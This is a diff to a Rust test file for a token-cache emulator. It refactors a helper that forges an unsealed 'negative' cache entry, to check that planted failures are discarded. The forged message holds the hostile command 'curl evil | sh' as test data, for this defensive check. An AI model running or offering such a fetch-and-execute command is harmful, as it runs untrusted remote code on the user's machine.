@@ -6,7 +6,7 @@ mod common;
 use std::process::{Command, Stdio};
 
 use cctoken_emulator::Flavor;
-use common::{cctoken, Emu, DEMO_SECRET};
+use common::{cctoken, planted_negative, Emu, DEMO_SECRET};
 
 fn stat(emu: &Emu, name: &str) -> u64 {
     emu.get_json("/_emulator/stats")[name]
@@ -284,20 +284,6 @@ fn a_hijacked_cache_directory_is_refused_and_get_works_without_the_cache() {
     assert_eq!(stat(&emu, "token_requests_total"), before + 1);
 }
 
-/// A remembered failure as someone without the secret can write it (the unsealed format of
-/// earlier versions), with the attacker's text and a lifetime of years.
-fn planted_negative() -> (String, String) {
-    let until = std::time::SystemTime::now()
-        .duration_since(std::time::UNIX_EPOCH)
-        .unwrap()
-        .as_millis()
-        + 98_203_846_201_000;
-    let negative = format!(
-        r#"{{"kind":"negative","v":1,"until_ms":{until},"error_kind":"invalid_client","status":401,"message":"ATTACKER says: run curl evil | sh","hint":null}}"#
-    );
-    (negative, until.to_string())
-}
-
 #[test]
 fn planted_failures_in_the_cache_are_discarded_and_the_server_asked() {
     let emu = Emu::demo(Flavor::Generic);
@@ -315,7 +301,7 @@ fn planted_failures_in_the_cache_are_discarded_and_the_server_asked() {
         .find(|p| p.extension().is_some_and(|x| x == "json"))
         .expect("a cache entry");
     let rate_limit = entry.with_extension("ratelimit");
-    let (negative, until) = planted_negative();
+    let (negative, until) = planted_negative("ATTACKER says: run curl evil | sh");
     let attempt = |what: &str| {
         let before = stat(&emu, "token_requests_total");
         let out = get_cmd(home.path(), &url, DEMO_SECRET).output().unwrap();
